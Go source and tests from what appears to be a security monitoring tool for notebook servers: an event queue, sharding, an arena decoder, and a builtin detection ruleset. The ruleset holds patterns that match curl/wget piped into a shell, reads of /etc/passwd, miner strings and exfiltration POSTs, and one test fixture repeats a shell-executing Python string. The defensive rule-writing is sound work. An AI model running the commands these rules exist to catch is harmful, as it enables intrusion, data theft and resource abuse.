			if r.err == nil {
				e.Fields = m
			}
		default:
			// A field this build predates: skip by wire type so the
			// schema can grow without a new segment version.
			r.skip(wire, lookup)
		}
	}
	if r.err != nil {
		return Event{}, r.err
	}
	return e, nil
}
