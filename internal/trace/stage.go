package trace

import (
	"sync"
	"sync/atomic"
)

// DropPolicy selects what a full Stage queue does with a new event.
type DropPolicy int

const (
	// Block applies backpressure: Emit waits until queue space frees.
	// Nothing is ever lost; producers slow to the consumer's pace.
	Block DropPolicy = iota
	// DropNewest discards the incoming event when the queue is full and
	// increments the dropped counter. Producers never stall; the
	// counter makes the loss explicit and monitorable.
	DropNewest
)

// String names the policy for logs and reports.
func (p DropPolicy) String() string {
	if p == DropNewest {
		return "drop_newest"
	}
	return "block"
}

// Stage decouples event producers from a slow Sink: events are queued
// into a bounded channel drained by a pool of workers that invoke the
// wrapped sink. It implements Sink, so any producer (a Bus subscriber,
// a monitor, a honeypot observer) can be made asynchronous by wrapping
// its downstream sink in a Stage.
//
// With a single worker the wrapped sink observes events in exactly the
// order they were emitted by a single producer; with N > 1 workers
// delivery order across events is unspecified and the sink must be
// safe for concurrent use (the sharded rules.Engine is).
//
// Events emitted after Close are counted as dropped regardless of
// policy, never delivered, and never panic.
type Stage struct {
	sink   Sink
	ch     chan Event
	policy DropPolicy

	mu     sync.RWMutex // guards closed against concurrent Emit/Close
	closed bool

	wg        sync.WaitGroup
	accepted  atomic.Uint64
	processed atomic.Uint64
	dropped   atomic.Uint64
}

// NewStage starts a stage delivering to sink with the given worker
// count (min 1), queue depth (default 1024), and drop policy.
func NewStage(sink Sink, workers, depth int, policy DropPolicy) *Stage {
	if workers <= 0 {
		workers = 1
	}
	if depth <= 0 {
		depth = 1024
	}
	st := &Stage{sink: sink, ch: make(chan Event, depth), policy: policy}
	st.wg.Add(workers)
	for i := 0; i < workers; i++ {
		go st.worker()
	}
	return st
}

func (st *Stage) worker() {
	defer st.wg.Done()
	for e := range st.ch {
		st.sink.Emit(e)
		st.processed.Add(1)
	}
}

// Emit enqueues the event, honoring the drop policy when full.
func (st *Stage) Emit(e Event) {
	st.mu.RLock()
	defer st.mu.RUnlock()
	if st.closed {
		st.dropped.Add(1)
		return
	}
	// Count the acceptance before the enqueue: a drained stage must
	// satisfy Processed() >= Accepted(), so the counter may never lag
	// behind an event already visible to a worker. The drop path
	// compensates.
	st.accepted.Add(1)
	if st.policy == Block {
		st.ch <- e
		return
	}
	select {
	case st.ch <- e:
	default:
		st.accepted.Add(^uint64(0)) // undo: the event was not enqueued
		st.dropped.Add(1)
	}
}

// Close stops accepting events, drains the queue, and waits for the
// workers to finish. It is idempotent.
func (st *Stage) Close() {
	st.mu.Lock()
	if st.closed {
		st.mu.Unlock()
		return
	}
	st.closed = true
	close(st.ch)
	st.mu.Unlock()
	st.wg.Wait()
}

// Accepted returns how many events were enqueued.
func (st *Stage) Accepted() uint64 { return st.accepted.Load() }

// Processed returns how many events the wrapped sink has consumed.
func (st *Stage) Processed() uint64 { return st.processed.Load() }

// Dropped returns how many events were discarded (queue overflow under
// DropNewest, or emitted after Close).
func (st *Stage) Dropped() uint64 { return st.dropped.Load() }

// Pending returns the number of queued, not-yet-processed events.
func (st *Stage) Pending() int { return len(st.ch) }
