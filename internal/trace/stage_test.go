package trace

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestStageDeliversAll(t *testing.T) {
	var n atomic.Uint64
	st := NewStage(SinkFunc(func(Event) { n.Add(1) }), 4, 8, Block)
	for i := 0; i < 500; i++ {
		st.Emit(Event{Kind: KindHTTP})
	}
	st.Close()
	if n.Load() != 500 {
		t.Fatalf("delivered = %d, want 500", n.Load())
	}
	if st.Accepted() != 500 || st.Processed() != 500 || st.Dropped() != 0 {
		t.Fatalf("counters = %d/%d/%d", st.Accepted(), st.Processed(), st.Dropped())
	}
}

func TestStageSingleWorkerPreservesOrder(t *testing.T) {
	var got []uint64
	st := NewStage(SinkFunc(func(e Event) { got = append(got, e.Seq) }), 1, 4, Block)
	for i := 1; i <= 200; i++ {
		st.Emit(Event{Seq: uint64(i)})
	}
	st.Close()
	for i, s := range got {
		if s != uint64(i+1) {
			t.Fatalf("order broken at %d: %d", i, s)
		}
	}
}

func TestStageDropNewestCountsOverflow(t *testing.T) {
	release := make(chan struct{})
	st := NewStage(SinkFunc(func(Event) { <-release }), 1, 2, DropNewest)
	// One event occupies the worker; two fill the queue; the rest drop.
	for i := 0; i < 10; i++ {
		st.Emit(Event{})
	}
	if st.Dropped() == 0 {
		t.Fatal("expected drops with a stalled worker and depth 2")
	}
	close(release)
	st.Close()
	if st.Accepted()+st.Dropped() != 10 {
		t.Fatalf("accepted %d + dropped %d != 10", st.Accepted(), st.Dropped())
	}
	if st.Processed() != st.Accepted() {
		t.Fatalf("processed %d != accepted %d", st.Processed(), st.Accepted())
	}
}

func TestStageBlockNeverDrops(t *testing.T) {
	var n atomic.Uint64
	st := NewStage(SinkFunc(func(Event) {
		time.Sleep(100 * time.Microsecond)
		n.Add(1)
	}), 2, 1, Block)
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				st.Emit(Event{})
			}
		}()
	}
	wg.Wait()
	st.Close()
	if n.Load() != 200 || st.Dropped() != 0 {
		t.Fatalf("delivered = %d dropped = %d", n.Load(), st.Dropped())
	}
}

func TestStageEmitAfterCloseIsDropped(t *testing.T) {
	st := NewStage(Discard, 1, 4, Block)
	st.Emit(Event{})
	st.Close()
	st.Emit(Event{})
	st.Close() // idempotent
	if st.Dropped() != 1 {
		t.Fatalf("dropped = %d, want 1", st.Dropped())
	}
}

func TestStageAsBusSubscriber(t *testing.T) {
	var n atomic.Uint64
	bus := NewBus(NewFakeClock(t0))
	st := NewStage(SinkFunc(func(e Event) {
		if e.Seq == 0 {
			t.Error("event not stamped")
		}
		n.Add(1)
	}), 2, 16, Block)
	bus.Subscribe(st)
	for i := 0; i < 64; i++ {
		bus.Emit(Event{Kind: KindExec})
	}
	st.Close()
	if n.Load() != 64 {
		t.Fatalf("delivered = %d, want 64", n.Load())
	}
}
