package trace

// ActorKey returns the stable identity used to shard an event stream
// for parallel processing. It mirrors how the builtin detectors group
// correlation state: source address for transport/auth events, kernel
// for resource samples (CM-003 thresholds by kernel_id), else user,
// else source, else kernel. Sharding by it keeps every builtin
// threshold window and sequence on one shard, in time order; a custom
// rule whose GroupBy cuts across actor keys (say, grouping http
// events by user) loses the serial-equivalence guarantee.
//
// It lives in trace (rather than workload, which re-exports it) so the
// storage layer can index segments by actor without importing the
// traffic generator.
func ActorKey(e Event) string {
	if (e.Kind == KindAuth || e.Kind == KindHTTP || e.Kind == KindConn) && e.SrcIP != "" {
		return e.SrcIP
	}
	if e.Kind == KindSysRes && e.KernelID != "" {
		return e.KernelID
	}
	switch {
	case e.User != "":
		return e.User
	case e.SrcIP != "":
		return e.SrcIP
	default:
		return e.KernelID
	}
}

// ShardIndex maps a shard key to one of n shards via FNV-1a — the
// routing every sharded consumer (live per-actor stages, store
// replay, workload.Partition) shares, so one actor always lands on
// one shard no matter which path delivered it.
func ShardIndex(key string, n int) int {
	if n <= 1 {
		return 0
	}
	h := uint64(14695981039346656037)
	for i := 0; i < len(key); i++ {
		h ^= uint64(key[i])
		h *= 1099511628211
	}
	return int(h % uint64(n))
}
