package trace

import "unsafe"

// zeroCopyStrings gates the unsafe.String fast path in bytesToString.
// Tests flip it to prove the safe fallback is behaviorally identical;
// production always runs with it on.
var zeroCopyStrings = true

// bytesToString returns a string over b without copying. The caller
// must guarantee b's bytes are never mutated afterwards — Arena
// provides exactly that guarantee (append-only, never rewound), which
// is the only call site. The unsafe.String construction is the
// documented safe pattern for immutable byte views (strings.Builder
// uses the same trick); the fallback is a plain copying conversion.
func bytesToString(b []byte) string {
	if len(b) == 0 {
		return ""
	}
	if zeroCopyStrings {
		return unsafe.String(&b[0], len(b))
	}
	return string(b)
}
