package trace

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// TestArenaStringCopiesAndSurvivesSourceReuse pins the core arena
// contract: the returned string is a copy, so the caller may reuse
// its input buffer immediately, and the string stays stable across
// later arena activity (append-only, never rewound).
func TestArenaStringCopiesAndSurvivesSourceReuse(t *testing.T) {
	var a Arena
	buf := []byte("first-value")
	s1 := a.String(buf)
	copy(buf, []byte("xxxxxxxxxxx"))
	if s1 != "first-value" {
		t.Fatalf("arena string mutated by source reuse: %q", s1)
	}
	var got []string
	for i := 0; i < 50000; i++ { // force several chunk rollovers
		got = append(got, a.String([]byte(fmt.Sprintf("value-%05d", i))))
	}
	if s1 != "first-value" {
		t.Fatalf("arena string mutated by later appends: %q", s1)
	}
	for i, s := range got {
		if want := fmt.Sprintf("value-%05d", i); s != want {
			t.Fatalf("string %d: got %q want %q", i, s, want)
		}
	}
	strs, bytes, chunks := a.Stats()
	if strs != 50001 {
		t.Fatalf("strings stat = %d", strs)
	}
	if bytes == 0 || chunks == 0 {
		t.Fatalf("stats not tracked: bytes=%d chunks=%d", bytes, chunks)
	}
	if chunks >= strs/100 {
		t.Fatalf("arena not amortizing: %d chunks for %d strings", chunks, strs)
	}
}

// TestArenaOversizedValueSpansDedicatedChunk covers values larger
// than the standard chunk: they get an exact-size chunk and the next
// small value does not land in it wastefully.
func TestArenaOversizedValueSpansDedicatedChunk(t *testing.T) {
	var a Arena
	small := a.String([]byte("small"))
	big := a.String([]byte(strings.Repeat("B", arenaChunkSize*2+17)))
	after := a.String([]byte("after"))
	if small != "small" || after != "after" {
		t.Fatalf("small strings corrupted around oversized value")
	}
	if len(big) != arenaChunkSize*2+17 || big[0] != 'B' || big[len(big)-1] != 'B' {
		t.Fatalf("oversized value corrupted: len=%d", len(big))
	}
}

// TestArenaResetKeepsOldStrings: Reset drops the chunk reference but
// never reuses memory, so strings handed out before Reset stay valid.
func TestArenaResetKeepsOldStrings(t *testing.T) {
	var a Arena
	s := a.String([]byte("keep-me"))
	a.Reset()
	for i := 0; i < 1000; i++ {
		a.String([]byte("overwrite-attempt"))
	}
	if s != "keep-me" {
		t.Fatalf("Reset invalidated prior string: %q", s)
	}
}

// TestBytesToStringFallback proves the safe fallback is behaviorally
// identical to the unsafe.String fast path.
func TestBytesToStringFallback(t *testing.T) {
	defer func() { zeroCopyStrings = true }()
	for _, mode := range []bool{true, false} {
		zeroCopyStrings = mode
		if got := bytesToString(nil); got != "" {
			t.Fatalf("mode=%v: nil -> %q", mode, got)
		}
		if got := bytesToString([]byte{}); got != "" {
			t.Fatalf("mode=%v: empty -> %q", mode, got)
		}
		if got := bytesToString([]byte("hello")); got != "hello" {
			t.Fatalf("mode=%v: got %q", mode, got)
		}
	}
}

// TestDecodeBinaryEventArenaMatchesPlainDecode is the trace-layer
// differential: for every sample event, with and without dictionary,
// the arena decode yields JSON byte-identical to the plain decode.
func TestDecodeBinaryEventArenaMatchesPlainDecode(t *testing.T) {
	for _, withDict := range []bool{false, true} {
		intern, lookup := InternNone, Lookup(nil)
		if withDict {
			d := newTestDict()
			intern, lookup = d.intern, d.lookup
		}
		var arena Arena
		for i, e := range sampleEvents() {
			body := AppendBinaryEvent(nil, e, intern)
			plain, err := DecodeBinaryEvent(body, e.Kind, lookup)
			if err != nil {
				t.Fatalf("dict=%v event %d: plain decode: %v", withDict, i, err)
			}
			viaArena, err := DecodeBinaryEventArena(body, e.Kind, lookup, &arena)
			if err != nil {
				t.Fatalf("dict=%v event %d: arena decode: %v", withDict, i, err)
			}
			pj, _ := json.Marshal(plain)
			aj, _ := json.Marshal(viaArena)
			if string(pj) != string(aj) {
				t.Fatalf("dict=%v event %d: arena decode diverged:\nplain %s\narena %s",
					withDict, i, pj, aj)
			}
		}
	}
}

// TestDecodeBinaryEventArenaAllocs pins the tentpole claim at the
// codec layer: decoding an inline-string-heavy event with an arena
// performs zero per-event heap allocations once the arena's chunk
// exists (the event struct itself is stack-returned here).
func TestDecodeBinaryEventArenaAllocs(t *testing.T) {
	e := Event{
		Seq: 7, Kind: KindExec, SrcIP: "198.51.100.7", User: "mallory",
		Session: "sess-0123456789", Path: "/api/kernels/abcdef", Method: "POST",
		Code: strings.Repeat("import os; os.system('id'); ", 12), // > maxInternLen, always inline
		Op:   "execute", Target: "kernel", Detail: "suspicious exec",
	}
	body := AppendBinaryEvent(nil, e, InternNone)
	var arena Arena
	arena.String(make([]byte, 1)) // pre-create the chunk
	var sink Event
	allocs := testing.AllocsPerRun(200, func() {
		ev, err := DecodeBinaryEventArena(body, KindExec, nil, &arena)
		if err != nil {
			t.Fatal(err)
		}
		sink = ev
	})
	_ = sink
	// Chunk rollovers amortize to well under one allocation per event;
	// anything ≥1 means a per-string allocation crept back in.
	if allocs >= 1 {
		t.Fatalf("arena decode allocates %.1f/op; want amortized <1", allocs)
	}
	plainAllocs := testing.AllocsPerRun(200, func() {
		ev, err := DecodeBinaryEvent(body, KindExec, nil)
		if err != nil {
			t.Fatal(err)
		}
		sink = ev
	})
	if plainAllocs <= allocs {
		t.Fatalf("expected plain decode (%.1f allocs/op) to exceed arena decode (%.1f)",
			plainAllocs, allocs)
	}
}
