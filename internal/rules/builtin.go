package rules

import "time"

// Taxonomy class names shared with the taxonomy and oscrp packages.
// (Kept as plain strings here to avoid an import cycle; the taxonomy
// package asserts they stay in sync.)
const (
	ClassRansomware      = "ransomware"
	ClassExfiltration    = "data_exfiltration"
	ClassCryptomining    = "cryptomining"
	ClassMisconfig       = "security_misconfiguration"
	ClassAccountTakeover = "account_takeover"
	ClassDoS             = "denial_of_service"
	ClassZeroDay         = "zero_day"
)

// BuiltinRules returns the stock signature set covering the paper's
// taxonomy (Fig. 1): one or more signatures per attack class, derived
// from the public incident patterns the paper cites.
func BuiltinRules() []*Rule {
	return []*Rule{
		// ---- Ransomware ----
		{
			ID:          "RW-001-encrypt-call",
			Description: "cell source invokes encryption primitive over files",
			Class:       ClassRansomware,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "exec"},
				{Field: "code", Regex: `encrypt\s*\(`},
			},
		},
		{
			ID:          "RW-002-ransom-note",
			Description: "file write of a ransom note artifact",
			Class:       ClassRansomware,
			Severity:    SevCritical,
			Conditions: []Condition{
				{Field: "kind", Equals: "file_op"},
				{Field: "op", Regex: `^(create|write)$`},
				{Field: "target", Regex: `(?i)(readme.*(ransom|decrypt|restore)|ransom|how_to_recover)`},
			},
		},
		{
			ID:          "RW-003-bulk-highentropy-writes",
			Description: "burst of high-entropy file overwrites (encryption sweep)",
			Class:       ClassRansomware,
			Severity:    SevCritical,
			Conditions: []Condition{
				{Field: "kind", Equals: "file_op"},
				{Field: "op", Equals: "write"},
				GTCond("entropy", 7.2),
			},
			Threshold: &Threshold{Count: 5, Window: 2 * time.Minute, GroupBy: "user"},
		},
		{
			ID:          "RW-004-extension-churn",
			Description: "burst of renames to a foreign extension (.locked/.enc)",
			Class:       ClassRansomware,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "file_op"},
				{Field: "op", Equals: "rename"},
				{Field: "detail", Regex: `\.(locked|enc|crypt|encrypted)$`},
			},
			Threshold: &Threshold{Count: 3, Window: 2 * time.Minute, GroupBy: "user"},
		},

		// ---- Data exfiltration ----
		{
			ID:          "EX-001-outbound-post",
			Description: "kernel performs outbound POST to non-allowlisted host",
			Class:       ClassExfiltration,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "net_op"},
				{Field: "op", Equals: "POST"},
			},
		},
		{
			ID:          "EX-002-bulk-read-then-post",
			Description: "large content read followed by outbound network transfer",
			Class:       ClassExfiltration,
			Severity:    SevCritical,
			Sequence: []Stage{
				{Conditions: []Condition{
					{Field: "kind", Equals: "file_op"},
					{Field: "op", Equals: "read"},
					GTCond("bytes", 4096),
				}},
				{Conditions: []Condition{
					{Field: "kind", Equals: "net_op"},
					GTCond("bytes", 1024),
				}, Within: 5 * time.Minute},
			},
		},
		{
			ID:          "EX-003-encoded-upload",
			Description: "cell source base64-encodes data before network send",
			Class:       ClassExfiltration,
			Severity:    SevMedium,
			Conditions: []Condition{
				{Field: "kind", Equals: "exec"},
				{Field: "code", Regex: `b64encode\s*\(`},
			},
		},
		{
			ID:          "EX-004-highentropy-upload",
			Description: "outbound payload with near-random entropy (packed or encrypted data)",
			Class:       ClassExfiltration,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "net_op"},
				GTCond("entropy", 7.0),
				GTCond("bytes", 512),
			},
		},

		// ---- Cryptomining / resource abuse ----
		{
			ID:          "CM-001-miner-strings",
			Description: "cell source references mining pools or miner binaries",
			Class:       ClassCryptomining,
			Severity:    SevCritical,
			Conditions: []Condition{
				{Field: "kind", Equals: "exec"},
				{Field: "code", Regex: `(?i)(stratum\+tcp|xmrig|minerd|cryptonight|coinhive|pool\.min)`},
			},
			References: []string{"https://nvd.nist.gov/vuln/detail/CVE-2024-22415"},
		},
		{
			ID:          "CM-002-sustained-cpu",
			Description: "execution consumed a large CPU budget in one cell",
			Class:       ClassCryptomining,
			Severity:    SevMedium,
			Conditions: []Condition{
				{Field: "kind", Equals: "exec"},
				GTCond("cpu_millis", 30000),
			},
		},
		{
			ID:          "CM-003-cpu-burst-series",
			Description: "repeated heavy-CPU executions from one kernel (duty-cycled miner)",
			Class:       ClassCryptomining,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "sys_res"},
				GTCond("cpu_millis", 5000),
			},
			Threshold: &Threshold{Count: 4, Window: 10 * time.Minute, GroupBy: "kernel_id"},
		},

		// ---- Security misconfiguration probing/exploitation ----
		{
			ID:          "MC-001-unauth-api-sweep",
			Description: "unauthenticated client enumerated API endpoints",
			Class:       ClassMisconfig,
			Severity:    SevMedium,
			Conditions: []Condition{
				{Field: "kind", Equals: "http"},
				{Field: "status", Equals: "403"},
				{Field: "path", Regex: `^/api/`},
			},
			Threshold: &Threshold{Count: 5, Window: time.Minute, GroupBy: "src_ip"},
		},
		{
			ID:          "MC-002-open-server-access",
			Description: "request served by an auth-disabled server",
			Class:       ClassMisconfig,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "auth"},
				{Field: "op", Equals: "open"},
			},
			Threshold: &Threshold{Count: 1, Window: time.Hour, GroupBy: "src_ip"},
		},
		{
			ID:          "MC-003-token-in-url",
			Description: "credential presented in URL query string",
			Class:       ClassMisconfig,
			Severity:    SevMedium,
			Conditions: []Condition{
				{Field: "kind", Equals: "http"},
				{Field: "path", Contains: "token="},
			},
		},

		// ---- Account takeover ----
		{
			ID:          "AT-001-bruteforce",
			Description: "rapid authentication failures from one source",
			Class:       ClassAccountTakeover,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "auth"},
				{Field: "success", Equals: "false"},
			},
			Threshold: &Threshold{Count: 8, Window: 2 * time.Minute, GroupBy: "src_ip"},
			References: []string{
				"Cao et al., Personalized password guessing (HotSoS'14)",
			},
		},
		{
			ID:          "AT-002-success-after-failures",
			Description: "successful login immediately after a failure train (credential stuffing hit)",
			Class:       ClassAccountTakeover,
			Severity:    SevCritical,
			Sequence: []Stage{
				{Conditions: []Condition{
					{Field: "kind", Equals: "auth"},
					{Field: "success", Equals: "false"},
				}},
				{Conditions: []Condition{
					{Field: "kind", Equals: "auth"},
					{Field: "success", Equals: "false"},
				}, Within: 5 * time.Minute},
				{Conditions: []Condition{
					{Field: "kind", Equals: "auth"},
					{Field: "success", Equals: "false"},
				}, Within: 5 * time.Minute},
				{Conditions: []Condition{
					{Field: "kind", Equals: "auth"},
					{Field: "success", Equals: "true"},
				}, Within: 5 * time.Minute},
			},
		},

		// ---- Terminal / shell escape (vast attack interface) ----
		{
			ID:          "TS-001-recon-commands",
			Description: "reconnaissance command in terminal or kernel shell",
			Class:       ClassZeroDay,
			Severity:    SevMedium,
			Conditions: []Condition{
				{Field: "kind", Equals: "term_cmd"},
				{Field: "code", Regex: `^(whoami|id|uname|nproc|cat /etc/passwd)`},
			},
		},
		{
			ID:          "TS-002-downloader",
			Description: "terminal command fetches and pipes remote content",
			Class:       ClassZeroDay,
			Severity:    SevCritical,
			Conditions: []Condition{
				{Field: "kind", Equals: "term_cmd"},
				{Field: "code", Regex: `(curl|wget).*(\||;|&&).*(sh|bash|python)`},
			},
		},

		// ---- Trojan notebooks (static scan findings) ----
		{
			ID:          "NB-001-malicious-notebook",
			Description: "static notebook scan flagged attack-shaped code cells on write",
			Class:       ClassZeroDay,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "file_op"},
				{Field: "op", Equals: "nb_scan"},
				GTCond("bytes", 0),
			},
		},

		// ---- Denial of service ----
		{
			ID:          "DS-001-request-flood",
			Description: "HTTP request flood from one source",
			Class:       ClassDoS,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "http"},
			},
			Threshold: &Threshold{Count: 200, Window: 10 * time.Second, GroupBy: "src_ip"},
		},

		// ---- Census / deep-scan findings ----
		//
		// Scanner suites project findings onto the event model (kind
		// scan_finding, see the scan package), so a fleet sweep raises
		// alerts through this same engine. These rules are stateless
		// by design: sweep alert counts stay deterministic no matter
		// how many workers deliver the events.
		{
			ID:          "SC-001-critical-exposure",
			Description: "scanner suite reported a critical exposure on a swept target",
			Class:       ClassMisconfig,
			Severity:    SevCritical,
			Conditions: []Condition{
				{Field: "kind", Equals: "scan_finding"},
				{Field: "severity", Equals: "critical"},
			},
		},
		{
			ID:          "SC-002-trojan-notebook",
			Description: "deep scan found exfiltration-shaped notebook content on a swept target",
			Class:       ClassExfiltration,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "scan_finding"},
				{Field: "suite", Equals: "nbscan"},
				{Field: "class", Equals: ClassExfiltration},
			},
		},
		{
			ID:          "SC-003-known-indicator",
			Description: "threat-intel indicator matched an artifact on a swept target",
			Class:       ClassZeroDay,
			Severity:    SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "scan_finding"},
				{Field: "suite", Equals: "intel"},
			},
		},
	}
}

// BuiltinRuleIDs returns the ids of the stock ruleset.
func BuiltinRuleIDs() []string {
	rs := BuiltinRules()
	ids := make([]string, len(rs))
	for i, r := range rs {
		ids[i] = r.ID
	}
	return ids
}
