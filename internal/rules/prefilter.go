package rules

import (
	"regexp/syntax"
	"strings"
	"unicode/utf8"
)

// Regex conditions dominate the engine's per-event cost: most events
// are benign, so most MatchString calls walk the backtracker to a
// miss. Nearly every shipped pattern, however, contains a literal the
// input must hold for any match to exist ("encrypt", "b64encode",
// "curl"/"wget", ...), and strings.Contains rejects a candidate an
// order of magnitude cheaper than the regexp engine. requiredLiterals
// derives that guard from the parsed pattern at compile time; Match
// consults it before touching the regexp. The extraction is
// conservative — when no literal is provably required the condition
// simply runs the regexp as before — so the guard can only ever skip
// inputs the regexp would also reject.

// litHint is one alternative of a required-literal set: the input
// must contain at least one hint's literal (case-insensitively when
// fold is set) or the regexp cannot match.
type litHint struct {
	lit  string
	fold bool // ASCII case-insensitive containment
}

// requiredLiterals extracts a required-literal set from a pattern.
// An empty result means no guard could be proven.
func requiredLiterals(pattern string) []litHint {
	re, err := syntax.Parse(pattern, syntax.Perl)
	if err != nil {
		return nil
	}
	hints, ok := litsOf(re.Simplify())
	if !ok || minHintLen(hints) < 2 {
		// One-byte guards reject too little to pay for the scan.
		return nil
	}
	return hints
}

// litsOf walks the parse tree. The returned set is sound, not
// complete: ok means "every match of this subexpression contains one
// of these literals".
func litsOf(re *syntax.Regexp) ([]litHint, bool) {
	switch re.Op {
	case syntax.OpLiteral:
		return literalHint(re)
	case syntax.OpConcat:
		// Every child must match, so any child's requirement is a
		// requirement of the whole; keep the most selective one.
		var best []litHint
		bestLen := 0
		for _, sub := range re.Sub {
			if hints, ok := litsOf(sub); ok {
				if l := minHintLen(hints); l > bestLen {
					best, bestLen = hints, l
				}
			}
		}
		return best, bestLen > 0
	case syntax.OpCapture, syntax.OpPlus:
		return litsOf(re.Sub[0])
	case syntax.OpRepeat:
		if re.Min >= 1 {
			return litsOf(re.Sub[0])
		}
	case syntax.OpAlternate:
		// Every branch must carry its own requirement or the union
		// proves nothing.
		var all []litHint
		for _, sub := range re.Sub {
			hints, ok := litsOf(sub)
			if !ok {
				return nil, false
			}
			all = append(all, hints...)
		}
		return all, len(all) > 0
	}
	// Star/quest/classes/anchors/empty: nothing required.
	return nil, false
}

// literalHint converts an OpLiteral node. Folded literals are kept
// only when pure ASCII, where a byte-wise case-insensitive scan is
// exact; non-ASCII folding (Kelvin sign, dotless i) is left to the
// regexp engine.
func literalHint(re *syntax.Regexp) ([]litHint, bool) {
	if len(re.Rune) == 0 {
		return nil, false
	}
	lit := string(re.Rune)
	if re.Flags&syntax.FoldCase == 0 {
		return []litHint{{lit: lit}}, true
	}
	for _, r := range re.Rune {
		if r >= utf8.RuneSelf {
			return nil, false
		}
	}
	return []litHint{{lit: strings.ToLower(lit), fold: true}}, true
}

func minHintLen(hints []litHint) int {
	if len(hints) == 0 {
		return 0
	}
	min := len(hints[0].lit)
	for _, h := range hints[1:] {
		if len(h.lit) < min {
			min = len(h.lit)
		}
	}
	return min
}

// matchHints reports whether v contains at least one required
// literal. False proves the regexp cannot match v.
func matchHints(v string, hints []litHint) bool {
	for _, h := range hints {
		if h.fold {
			if containsFoldASCII(v, h.lit) {
				return true
			}
		} else if strings.Contains(v, h.lit) {
			return true
		}
	}
	return false
}

// containsFoldASCII is strings.Contains under ASCII case folding
// without allocating a lowered copy. substr must already be
// lowercase. Positions that can't start a match are skipped with
// IndexByte (vectorized memchr) on the first byte's two cases, so
// the byte-wise compare only runs at genuine candidates.
func containsFoldASCII(s, substr string) bool {
	n := len(substr)
	if n == 0 {
		return true
	}
	c0 := substr[0]
	u0 := c0
	if 'a' <= c0 && c0 <= 'z' {
		u0 = c0 - ('a' - 'A')
	}
	for i := 0; i+n <= len(s); {
		if ch := s[i]; ch != c0 && ch != u0 {
			rest := s[i+1 : len(s)-n+1]
			next := strings.IndexByte(rest, c0)
			if u0 != c0 {
				if up := strings.IndexByte(rest, u0); up >= 0 && (next < 0 || up < next) {
					next = up
				}
			}
			if next < 0 {
				return false
			}
			i += 1 + next
		}
		j := 1
		for j < n {
			ch := s[i+j]
			if 'A' <= ch && ch <= 'Z' {
				ch += 'a' - 'A'
			}
			if ch != substr[j] {
				break
			}
			j++
		}
		if j == n {
			return true
		}
		i++
	}
	return false
}
