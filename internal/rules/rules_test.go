package rules

import (
	"strings"
	"testing"
	"time"

	"repro/internal/trace"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func at(offset time.Duration, e trace.Event) trace.Event {
	e.Time = t0.Add(offset)
	return e
}

func mustEngine(t *testing.T, rs ...*Rule) *Engine {
	t.Helper()
	en, err := NewEngine(rs)
	if err != nil {
		t.Fatal(err)
	}
	return en
}

func TestConditionOperators(t *testing.T) {
	e := trace.Event{
		Kind: trace.KindExec, Code: "encrypt(read_file(f), key)",
		User: "mallory", Bytes: 5000, Entropy: 7.8, Status: 403,
		Fields: map[string]string{"custom": "value"},
	}
	cases := []struct {
		cond Condition
		want bool
	}{
		{Condition{Field: "kind", Equals: "exec"}, true},
		{Condition{Field: "kind", Equals: "http"}, false},
		{Condition{Field: "code", Contains: "encrypt("}, true},
		{Condition{Field: "code", Regex: `encrypt\s*\(`}, true},
		{Condition{Field: "code", Regex: `^shell`}, false},
		{GTCond("bytes", 4999), true},
		{GTCond("bytes", 5000), false},
		{LTCond("entropy", 7.9), true},
		{GTCond("entropy", 7.0), true},
		{Condition{Field: "custom", Equals: "value"}, true},
		{Condition{Field: "user"}, true},    // existence
		{Condition{Field: "dst_ip"}, false}, // empty
		{Condition{Field: "status", Equals: "403"}, true},
	}
	for i, c := range cases {
		cond := c.cond
		if err := cond.compile(); err != nil {
			t.Fatalf("case %d: %v", i, err)
		}
		if got := cond.Match(&e); got != c.want {
			t.Errorf("case %d: match = %v want %v (%+v)", i, got, c.want, c.cond)
		}
	}
}

func TestCompileRejectsBadRules(t *testing.T) {
	bad := []*Rule{
		{ID: "", Conditions: []Condition{{Field: "kind", Equals: "x"}}},
		{ID: "r1"}, // no conditions or sequence
		{ID: "r2", Conditions: []Condition{{Field: "code", Regex: "("}}},
		{ID: "r3", Conditions: []Condition{{Field: "kind", Equals: "x"}},
			Threshold: &Threshold{Count: 0}},
	}
	for i, r := range bad {
		if err := r.Compile(); err == nil {
			t.Errorf("rule %d compiled", i)
		}
	}
}

func TestSimpleRuleFires(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "R1", Class: ClassRansomware, Severity: SevHigh,
		Conditions: []Condition{
			{Field: "kind", Equals: "exec"},
			{Field: "code", Contains: "encrypt("},
		},
	})
	alerts := en.Process(at(0, trace.Event{Kind: trace.KindExec, Code: "x = encrypt(d, k)"}))
	if len(alerts) != 1 || alerts[0].RuleID != "R1" {
		t.Fatalf("alerts = %+v", alerts)
	}
	// Non-matching event.
	if alerts := en.Process(at(time.Second, trace.Event{Kind: trace.KindExec, Code: "print(1)"})); len(alerts) != 0 {
		t.Fatalf("false positive: %+v", alerts)
	}
	if en.Evaluated() != 2 {
		t.Fatalf("evaluated = %d", en.Evaluated())
	}
}

func TestThresholdRule(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "T1", Class: ClassAccountTakeover,
		Conditions: []Condition{{Field: "kind", Equals: "auth"}, {Field: "success", Equals: "false"}},
		Threshold:  &Threshold{Count: 3, Window: time.Minute, GroupBy: "src_ip"},
	})
	fail := trace.Event{Kind: trace.KindAuth, SrcIP: "6.6.6.6", Success: false}
